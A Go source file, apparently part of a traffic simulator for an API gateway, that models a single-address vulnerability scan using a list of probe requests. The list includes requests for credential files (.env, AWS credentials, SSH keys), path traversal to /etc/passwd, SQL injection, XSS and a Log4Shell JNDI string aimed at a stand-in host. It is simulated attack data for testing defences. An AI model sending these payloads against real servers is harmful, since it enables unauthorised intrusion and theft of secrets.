package sim

import (
	"time"

	"sundew"
)

func vulnerabilityScan() method {
	return method{
		Attack: Attack{
			Name:      "vulnerability-scan",
			OWASP:     []string{"OAT-014", "API8:2023"},
			Sentence:  "One address asks for files and consoles that should not be reachable, and tries injections.",
			Lasts:     10 * time.Minute,
			Intensity: 0.7,
		},
		slow: 6, fast: 240, addresses: 1,
		strike: probe,
	}
}

// probe asks for something that the shop does not have, so that the gateway knows no route for it.
func probe(c *campaign, e *sundew.Event) {
	p := probes[c.rng.IntN(len(probes))]
	search.call(c.rng, e)
	e.Route, e.Path, e.Query = "", p.path, p.query
	if p.query != "" {
		e.Route = p.path
	}
	answer(e, p.status)
}

var probes = [...]struct {
	path, query string
	status      int
}{
	{"/.env", "", 404},
	{"/.env.production", "", 404},
	{"/.git/config", "", 403},
	{"/.git/HEAD", "", 403},
	{"/.aws/credentials", "", 404},
	{"/.ssh/id_rsa", "", 404},
	{"/.DS_Store", "", 404},
	{"/.vscode/sftp.json", "", 404},
	{"/wp-login.php", "", 404},
	{"/wp-admin/setup-config.php", "", 404},
	{"/xmlrpc.php", "", 404},
	{"/phpmyadmin/index.php", "", 404},
	{"/phpinfo.php", "", 404},
	{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", 404},
	{"/actuator/env", "", 404},
	{"/actuator/heapdump", "", 404},
	{"/manager/html", "", 404},
	{"/solr/admin/info/system", "", 404},
	{"/console/", "", 404},
	{"/server-status", "", 403},
	{"/cgi-bin/luci", "", 404},
	{"/boaform/admin/formLogin", "", 404},
	{"/HNAP1/", "", 404},
	{"/api/swagger.json", "", 404},
	{"/v2/api-docs", "", 404},
	{"/graphql", "query={__schema{types{name}}}", 404},
	{"/debug/pprof/", "", 403},
	{"/backup.zip", "", 404},
	{"/db.sql", "", 404},
	{"/config.json", "", 404},
	{"/../../../../etc/passwd", "", 400},
	{"/static/..%2f..%2f..%2fetc/passwd", "", 400},
	{"/v1/search", "q=1'+OR+'1'='1'--+", 400},
	{"/v1/search", "q=1+UNION+SELECT+username,password+FROM+users--", 400},
	{"/v1/search", "q=%3Cscript%3Ealert(1)%3C/script%3E", 400},
	{"/v1/search", "q=${jndi:ldap://198.18.255.254/a}", 400},
	{"/v1/products", "page=1;SELECT+pg_sleep(10)--", 400},
	{"/v1/products", "sort=../../../../etc/passwd%00", 400},
}
